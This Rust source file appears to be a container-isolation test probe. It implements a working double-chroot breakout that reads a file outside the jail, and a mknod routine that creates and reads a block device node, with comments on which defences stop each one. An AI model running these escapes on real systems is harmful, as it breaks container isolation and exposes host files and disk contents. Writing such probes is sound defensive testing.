//! The escapes the chapters must stop. Both are harmless by design: they only ever read.
//!
//! * `escape-chroot PATH`: the classic double-chroot breakout. chroot(2) changes a process's root
//!   but not its working directory, and the kernel only stops `..` at the process's root. So a
//!   process that may call chroot moves its root below its working directory, climbs out with
//!   `..`, and makes wherever it lands its new root. An engine that only chroots loses to this;
//!   pivot_root(2) in a mount namespace, with the old root detached, does not (its `..` stops at
//!   the namespace's root mount), and dropping CAP_SYS_CHROOT stops the first step.
//! * `mknod-read PATH MAJOR MINOR`: make a block device node and read from it, which the devices
//!   cgroup must refuse.

use std::fs::{self, File};
use std::io::{self, Read};
use std::os::unix::fs::chroot;
use std::path::{Path, PathBuf};
use std::time::{SystemTime, UNIX_EPOCH};

use crate::files::read_capped;
use crate::json::{describe, errno_fields, Json};
use crate::sys;

/// Far more `..` than any real directory depth: each one past `/` is a no-op anyway.
const CLIMB: usize = 64;

/// Where to make the directory to chroot into: `/` first, `/tmp` when `/` is read-only.
const PARENTS: &[&str] = &["/", "/tmp"];

/// When nothing can be created, any existing directory other than `/` will do.
const EXISTING: &[&str] = &["/tmp", "/bin", "/etc", "/dev", "/proc"];

/// The record of one escape attempt: each step in words, and the failure that ended it.
#[derive(Default)]
struct Attempt {
    steps: Vec<String>,
    error: Option<String>,
}

impl Attempt {
    /// Records `what` as a step; returns its value, or `None` after recording the failure.
    fn note<T>(&mut self, what: &str, result: io::Result<T>) -> Option<T> {
        match result {
            Ok(value) => {
                self.steps.push(format!("{what} ok"));
                Some(value)
            }
            Err(e) => {
                self.steps.push(format!("{what} failed: {}", describe(&e)));
                None
            }
        }
    }

    /// Like [`Attempt::note`], and a failure here ends the attempt: it becomes the `error`.
    fn step<T>(&mut self, what: &str, result: io::Result<T>) -> Option<T> {
        let value = self.note(what, result);
        if value.is_none() {
            self.error = self.steps.last().cloned();
        }
        value
    }
}

/// A directory made for the attempt, removed through its parent's descriptor afterwards.
struct TempDir {
    parent: File,
    name: String,
}

/// `{"escaped", "content", "steps", "error"}`: `escaped` is true iff the file at `path` was read.
pub fn escape_chroot(path: &str) -> Json {
    let mut attempt = Attempt::default();
    let (jail, temp) = make_jail(&mut attempt);
    let content = jail.and_then(|jail| climb_out(&mut attempt, &jail, Path::new(path)));
    if let Some(temp) = temp {
        // The process may now have a different root: remove the directory by descriptor.
        attempt.note("rmdir", sys::rmdir_at(&temp.parent, &temp.name));
    }
    Json::object([
        ("escaped", Json::from(content.is_some())),
        (
            "content",
            content.as_deref().map_or(Json::Null, Json::bytes),
        ),
        ("steps", Json::array(attempt.steps)),
        ("error", attempt.error.into()),
    ])
}

/// Picks the directory to chroot into: a fresh one if possible, else an existing one.
fn make_jail(attempt: &mut Attempt) -> (Option<PathBuf>, Option<TempDir>) {
    let name = unique_name();
    for parent in PARENTS {
        let dir = Path::new(parent).join(&name);
        let made = fs::create_dir(&dir).and_then(|()| File::open(parent));
        if let Some(parent) = attempt.note(&format!("mkdir {}", dir.display()), made) {
            return (Some(dir), Some(TempDir { parent, name }));
        }
    }
    // Nothing could be created (a read-only root, say); that is not the escape failing.
    match EXISTING.iter().map(Path::new).find(|p| p.is_dir()) {
        Some(dir) => {
            attempt
                .steps
                .push(format!("using existing {}", dir.display()));
            (Some(dir.to_path_buf()), None)
        }
        None => {
            let failure = "no directory to chroot into".to_owned();
            attempt.steps.push(failure.clone());
            attempt.error = Some(failure);
            (None, None)
        }
    }
}

/// The breakout itself; returns what it read at `target`, if it could.
fn climb_out(attempt: &mut Attempt, jail: &Path, target: &Path) -> Option<Vec<u8>> {
    // Stand at the current root, which is outside `jail`, and stay there through the chroot.
    attempt.step("chdir(/)", std::env::set_current_dir("/"))?;
    attempt.step(&format!("chroot({})", jail.display()), chroot(jail))?;
    let climbed = (0..CLIMB).try_for_each(|_| std::env::set_current_dir(".."));
    attempt.step(&format!("chdir(..) x{CLIMB}"), climbed)?;
    attempt.step("chroot(.)", chroot("."))?;
    attempt.step(&format!("read {}", target.display()), read_capped(target))
}

/// A name no other probe uses at the same time: the pid and the clock's nanoseconds.
fn unique_name() -> String {
    let nanos = SystemTime::now()
        .duration_since(UNIX_EPOCH)
        .map_or(0, |d| d.subsec_nanos());
    format!(".probe-escape-{}-{nanos}", std::process::id())
}

/// `{"path", "mknod_ok", "mknod_errno", "mknod_error", "open_ok", "open_errno", "open_error",
/// "read_bytes", "read_errno", "read_error"}`.
///
/// Opening is only tried on a node the probe made itself, and the node is removed afterwards.
pub fn mknod_read(path: &str, major: u32, minor: u32) -> Json {
    let mknod = sys::mknod_block(Path::new(path), major, minor);
    let open = mknod.as_ref().ok().map(|()| File::open(path));
    let read = match &open {
        Some(Ok(file)) => Some(read_block(file)),
        _ => None,
    };
    if mknod.is_ok() {
        let _ = fs::remove_file(path);
    }
    let mut fields = vec![("path".to_owned(), Json::from(path))];
    fields.extend(outcome("mknod", Some(&mknod)));
    fields.extend(outcome("open", open.as_ref()));
    // A read that worked says how many bytes it got; `read_ok` would say nothing more.
    let [_, read_errno, read_error] = outcome("read", read.as_ref());
    let read_bytes = read.and_then(Result::ok);
    fields.extend([
        ("read_bytes".to_owned(), read_bytes.into()),
        read_errno,
        read_error,
    ]);
    Json::object(fields)
}

/// One read(2) of a sector's worth of bytes.
fn read_block(mut file: &File) -> io::Result<usize> {
    let mut sector = [0u8; 512];
    file.read(&mut sector)
}

/// The `<step>_ok`, `<step>_errno` and `<step>_error` fields; a step not tried is not ok.
fn outcome<T>(step: &str, result: Option<&io::Result<T>>) -> [(String, Json); 3] {
    let (ok, (errno, error)) = match result {
        Some(Ok(_)) => (true, (Json::Null, Json::Null)),
        Some(Err(e)) => (false, errno_fields(e)),
        None => (false, (Json::Null, Json::Null)),
    };
    [
        (format!("{step}_ok"), ok.into()),
        (format!("{step}_errno"), errno),
        (format!("{step}_error"), error),
    ]
}
